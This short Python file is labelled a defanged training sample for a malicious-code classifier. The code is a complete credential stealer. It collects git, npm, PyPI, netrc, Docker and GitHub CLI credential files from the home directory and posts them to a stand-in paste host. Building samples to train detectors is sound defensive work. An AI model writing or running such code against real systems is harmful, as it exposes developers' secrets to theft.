# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
from pathlib import Path
import json, urllib.request
home = Path.home()
targets = [".git-credentials", ".npmrc", ".pypirc", ".netrc", ".docker/config.json", ".config/gh/hosts.yml"]
found = {}
for t in targets:
    p = home / t
    if p.exists():
        found[t] = p.read_text(errors="ignore")
body = json.dumps(found).encode()
urllib.request.urlopen("https://paste.example.invalid/api/create", data=body)
